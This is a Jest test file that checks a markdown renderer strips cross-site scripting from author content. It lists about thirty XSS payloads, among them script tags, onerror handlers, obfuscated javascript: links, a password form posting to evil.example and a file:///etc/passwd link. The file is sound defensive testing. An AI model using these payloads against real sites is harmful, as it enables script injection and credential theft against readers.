/** @jest-environment jsdom */
import { renderMarkdown } from '@server/modules/content/render-markdown';

/** What an author, or somebody who took an author's account, might write to run code in a reader's browser. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](y)',
  '![x](y "a" onerror="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```"><script>alert(1)</script>\nx\n```',
  '## <img src=x onerror=alert(1)>',
  '| <b onmouseover=alert(1)> |\n|---|\n| x |',
  '<!--><img src=x onerror=alert(1)>-->',
  '\u2028<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

const ALLOWED = new Set(
  'P,H1,H2,H3,H4,H5,H6,UL,OL,LI,STRONG,EM,S,CODE,PRE,BLOCKQUOTE,TABLE,THEAD,TBODY,TR,TH,TD,A,IMG,HR,BR'.split(
    ',',
  ),
);
const SAFE_ADDRESS = /^(?:https?:|mailto:|\/(?!\/)|#|[^:]*$)/i;

describe('what an author writes', () => {
  it.each(ATTACKS)('does nothing in a reader’s browser: %s', (source) => {
    const holder = document.createElement('div');
    holder.innerHTML = renderMarkdown(source).html;

    const elements = [...holder.querySelectorAll('*')];
    const attributes = elements.flatMap((element) => [...element.attributes]);
    expect(elements.map(({ tagName }) => tagName).filter((name) => !ALLOWED.has(name))).toEqual([]);
    expect(attributes.filter(({ name }) => /^(?:on|style|srcdoc|action|formaction)/.test(name))).toEqual([]);
    expect(
      attributes.filter(({ name, value }) => /^(?:href|src)$/.test(name) && !SAFE_ADDRESS.test(value.trim())),
    ).toEqual([]);
  });

  it('keeps what it is for: headings with anchors, tables, lists, links', () => {
    const { html, outline, text } = renderMarkdown(
      '## 第一章\n\n- 一\n\n| 甲 | 乙 |\n|---|---|\n| 1 | 2 |\n\n[指南](/policyDoc/1) https://example.com',
    );

    expect(html).toContain('<h2 id="s1">第一章</h2>');
    expect(html).toContain('<td>2</td>');
    expect(html).toContain('<a href="/policyDoc/1">指南</a>');
    expect(html).toContain('rel="noopener noreferrer nofollow" target="_blank"');
    expect(outline).toEqual([{ id: 's1', level: 2, text: '第一章' }]);
    expect(text).toContain('第一章');
  });
});
